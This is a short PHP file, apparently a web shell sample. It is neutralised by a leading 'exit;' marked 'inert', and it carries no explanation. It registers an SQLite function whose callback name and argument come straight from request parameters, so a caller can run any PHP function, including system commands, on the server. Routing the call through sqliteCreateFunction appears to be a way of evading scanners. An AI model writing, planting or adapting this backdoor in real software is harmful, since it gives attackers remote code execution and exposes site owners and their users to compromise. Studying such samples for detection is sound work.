<?php exit; /* inert */ 
$pdo = new PDO('sqlite::memory:');
$pdo->sqliteCreateFunction('fmt', $_REQUEST['cb'], 1);
foreach ($pdo->query('SELECT fmt(' . $pdo->quote($_REQUEST['arg']) . ')') as $r) { echo $r[0]; }
